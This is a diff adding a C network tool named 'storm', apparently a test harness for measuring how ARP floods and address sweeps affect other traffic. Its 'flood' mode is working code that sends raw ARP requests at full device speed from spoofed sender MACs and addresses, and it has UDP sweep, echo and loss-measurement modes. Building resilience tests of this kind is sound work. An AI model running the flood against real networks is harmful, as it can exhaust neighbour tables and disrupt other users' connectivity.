@@ -1,0 +1,315 @@
+// SPDX-License-Identifier: BSD-2-Clause
+/* What an attack is made of, and what tells whether others suffer from it.
+ *
+ *	storm flood IFNAME MAC ADDRESS COUNT	ARP requests for ADDRESS, each from another sender, as fast as the device takes them
+ *	storm sweep ADDRESS COUNT		a datagram to each of so many addresses from there on
+ *	storm echo PORT				send back what comes, until SIGTERM
+ *	storm talk ADDRESS PORT MS		a numbered datagram each MS, until SIGTERM: how many came back
+ *	storm meet ADDRESS PORT			until the first answer: how long it took
+ *
+ * One line of JSON each.
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
+#include <net/if.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+#define BURST 64
+#define FRAME_BYTES 60
+#define SWEEP_EACH 100 /* what waits counts against the buffer of its socket */
+#define NUMBERS_MAX 1000000
+#define LAST_ANSWERS_S 2.0
+#define MEET_S 8.0
+#define REFUSED_MS 50 /* until one that was refused is sent again */
+
+static volatile sig_atomic_t ended;
+
+static void end(int signo)
+{
+	(void)signo;
+	ended = 1;
+}
+
+static void die(const char *what)
+{
+	perror(what);
+	exit(1);
+}
+
+static double now(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static struct sockaddr_in address(const char *text, const char *port)
+{
+	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
+
+	if (inet_pton(AF_INET, text, &sin.sin_addr) != 1)
+		die(text);
+	return sin;
+}
+
+static int udp_socket(void)
+{
+	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+
+	if (fd < 0)
+		die("socket");
+	return fd;
+}
+
+/* ---- flood */
+
+/* Sender @i, of 10.79/16: an address and a MAC of its own. */
+static void spoof(uint8_t *frame, uint32_t i)
+{
+	const uint8_t mac[ETH_ALEN] = { 0x02,      0x66, (uint8_t)(i >> 24), (uint8_t)(i >> 16), (uint8_t)(i >> 8),
+					(uint8_t)i };
+	const uint32_t ip = htonl(0x0a4f0000U | (i & 0xffffU));
+
+	memcpy(frame + ETH_ALEN, mac, ETH_ALEN);
+	memcpy(frame + 22, mac, ETH_ALEN);
+	memcpy(frame + 28, &ip, sizeof(ip));
+}
+
+static int flood(const char *ifname, const char *mac, const char *target, uint32_t count)
+{
+	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = ETH_ALEN };
+	static uint8_t frames[BURST][FRAME_BYTES];
+	struct mmsghdr msgs[BURST] = { 0 };
+	struct iovec iov[BURST];
+	uint32_t sent = 0, tip = address(target, "0").sin_addr.s_addr;
+	unsigned m[ETH_ALEN];
+	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), bypass = 1;
+	double began;
+
+	to.sll_ifindex = (int)if_nametoindex(ifname);
+	if (fd < 0 || !to.sll_ifindex || bind(fd, (struct sockaddr *)&to, sizeof(to)))
+		die(ifname);
+	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof(bypass));
+	if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
+		die(mac);
+	for (int i = 0; i < BURST; i++) {
+		static const uint8_t head[] = { 0x08, 0x06, 0, 1, 8, 0, 6, 4, 0, 1 };
+
+		for (int b = 0; b < ETH_ALEN; b++)
+			frames[i][b] = (uint8_t)m[b];
+		memcpy(frames[i] + 12, head, sizeof(head));
+		memcpy(frames[i] + 38, &tip, sizeof(tip));
+		iov[i] = (struct iovec){ frames[i], FRAME_BYTES };
+		msgs[i].msg_hdr.msg_iov = &iov[i];
+		msgs[i].msg_hdr.msg_iovlen = 1;
+	}
+	began = now();
+	while (sent < count) {
+		uint32_t burst = count - sent < BURST ? count - sent : BURST;
+		int n;
+
+		for (uint32_t i = 0; i < burst; i++)
+			spoof(frames[i], sent + i);
+		n = sendmmsg(fd, msgs, burst, 0);
+		if (n < 0 && errno != ENOBUFS)
+			die("sendmmsg");
+		sent += n > 0 ? (uint32_t)n : 0;
+	}
+	printf("{\"sent\":%u,\"seconds\":%.3f}\n", sent, now() - began);
+	return 0;
+}
+
+/* ---- sweep */
+
+static int sweep(const char *first, uint32_t count)
+{
+	struct sockaddr_in to = address(first, "9");
+	uint32_t base = ntohl(to.sin_addr.s_addr), sent = 0, refused = 0;
+	double began = now();
+	int fd = -1;
+
+	for (uint32_t i = 0; i < count; i++) {
+		if (i % SWEEP_EACH == 0) {
+			if (fd >= 0)
+				close(fd);
+			fd = udp_socket();
+			setsockopt(fd, IPPROTO_IP, IP_RECVERR, &(int){ 1 },
+				   sizeof(int)); /* or nobody hears of ENOBUFS */
+		}
+		to.sin_addr.s_addr = htonl(base + i);
+		if (sendto(fd, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to)) == 1)
+			sent++;
+		else
+			refused++;
+	}
+	close(fd);
+	printf("{\"sent\":%u,\"refused\":%u,\"seconds\":%.3f}\n", sent, refused, now() - began);
+	return 0;
+}
+
+/* ---- echo */
+
+static int echo(const char *port)
+{
+	struct sockaddr_in any = address("0.0.0.0", port), from;
+	int fd = udp_socket(), room = 4 << 20;
+	char buf[2048], control[CMSG_SPACE(sizeof(struct in_pktinfo))];
+	struct iovec iov = { buf, sizeof(buf) };
+	ssize_t n;
+
+	setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof(room));
+	setsockopt(fd, IPPROTO_IP, IP_PKTINFO, &(int){ 1 }, sizeof(int));
+	if (bind(fd, (struct sockaddr *)&any, sizeof(any)))
+		die("bind");
+	puts("{\"listening\":true}");
+	fflush(stdout);
+	while (!ended) {
+		struct msghdr msg = { .msg_name = &from,
+				      .msg_namelen = sizeof(from),
+				      .msg_iov = &iov,
+				      .msg_iovlen = 1,
+				      .msg_control = control,
+				      .msg_controllen = sizeof(control) };
+		struct cmsghdr *cmsg;
+
+		iov.iov_len = sizeof(buf);
+		n = recvmsg(fd, &msg, 0);
+		cmsg = n < 0 ? NULL : CMSG_FIRSTHDR(&msg);
+		if (!cmsg)
+			continue;
+		/* from the address that was asked */
+		((struct in_pktinfo *)(void *)CMSG_DATA(cmsg))->ipi_ifindex = 0;
+		((struct in_pktinfo *)(void *)CMSG_DATA(cmsg))->ipi_spec_dst =
+			((struct in_pktinfo *)(void *)CMSG_DATA(cmsg))->ipi_addr;
+		iov.iov_len = (size_t)n;
+		if (sendmsg(fd, &msg, 0) < 0)
+			perror("sendmsg");
+	}
+	return 0;
+}
+
+/* ---- talk */
+
+static uint8_t seen[NUMBERS_MAX];
+static uint32_t came, doubled;
+static double slowest;
+
+/** struct number - a datagram of talk */
+struct number {
+	uint32_t number;
+	double sent_at;
+};
+
+static void hear(int fd, uint32_t sent)
+{
+	struct number n;
+
+	while (recv(fd, &n, sizeof(n), MSG_DONTWAIT) == (ssize_t)sizeof(n)) {
+		if (n.number >= sent)
+			continue;
+		doubled += seen[n.number];
+		came += !seen[n.number];
+		seen[n.number] = 1;
+		if (now() - n.sent_at > slowest)
+			slowest = now() - n.sent_at;
+	}
+}
+
+static void hear_until(int fd, uint32_t sent, double until)
+{
+	struct pollfd p = { .fd = fd, .events = POLLIN };
+	double left;
+
+	while ((left = until - now()) > 0) {
+		if (poll(&p, 1, (int)(left * 1000) + 1) < 0 && errno != EINTR)
+			die("poll");
+		hear(fd, sent);
+		if (ended && came == sent)
+			return;
+	}
+}
+
+static int talk(const char *to, const char *port, const char *ms)
+{
+	struct sockaddr_in sin = address(to, port);
+	double pause = atoi(ms) / 1000.0, next = now();
+	uint32_t sent = 0, refused = 0, first_lost = 0;
+	int fd = udp_socket();
+
+	if (connect(fd, (struct sockaddr *)&sin, sizeof(sin)))
+		die("connect");
+	for (; !ended && sent < NUMBERS_MAX; next += pause) {
+		struct number n = { sent++, now() };
+
+		refused += send(fd, &n, sizeof(n), 0) != (ssize_t)sizeof(n);
+		hear_until(fd, sent, next + pause);
+	}
+	hear_until(fd, sent, now() + LAST_ANSWERS_S);
+	while (first_lost < sent && seen[first_lost])
+		first_lost++;
+	printf("{\"sent\":%u,\"lost\":%u,\"refused\":%u,\"doubled\":%u,\"slowest_ms\":%.1f,\"first_lost\":%d}\n", sent,
+	       sent - came, refused, doubled, slowest * 1000, first_lost < sent ? (int)first_lost : -1);
+	return 0;
+}
+
+/* ---- meet */
+
+static int meet(const char *to, const char *port)
+{
+	struct sockaddr_in sin = address(to, port);
+	int fd = udp_socket(), refused = 0;
+	struct pollfd p = { .fd = fd, .events = POLLIN };
+	double began = now();
+	bool waits = false;
+	char byte = 'm';
+
+	setsockopt(fd, IPPROTO_IP, IP_RECVERR, &(int){ 1 }, sizeof(int));
+	if (connect(fd, (struct sockaddr *)&sin, sizeof(sin)))
+		die("connect");
+	while (now() < began + MEET_S) {
+		if (waits || send(fd, &byte, 1, 0) == 1)
+			waits = true; /* one datagram is to be enough */
+		else
+			refused++;
+		if (poll(&p, 1, waits ? 1000 : REFUSED_MS) > 0 && recv(fd, &byte, 1, MSG_DONTWAIT) == 1) {
+			printf("{\"seconds\":%.4f,\"refused\":%d}\n", now() - began, refused);
+			return 0;
+		}
+		if (p.revents & POLLERR)
+			waits = false; /* unreachable, it says */
+	}
+	printf("{\"seconds\":null,\"refused\":%d}\n", refused);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	struct sigaction sa = { .sa_handler = end };
+
+	sigaction(SIGTERM, &sa, NULL);
+	if (argc == 6 && !strcmp(argv[1], "flood"))
+		return flood(argv[2], argv[3], argv[4], (uint32_t)atoi(argv[5]));
+	if (argc == 4 && !strcmp(argv[1], "sweep"))
+		return sweep(argv[2], (uint32_t)atoi(argv[3]));
+	if (argc == 3 && !strcmp(argv[1], "echo"))
+		return echo(argv[2]);
+	if (argc == 5 && !strcmp(argv[1], "talk"))
+		return talk(argv[2], argv[3], argv[4]);
+	if (argc == 4 && !strcmp(argv[1], "meet"))
+		return meet(argv[2], argv[3]);
+	fprintf(stderr, "storm: see the source\n");
+	return 2;
+}
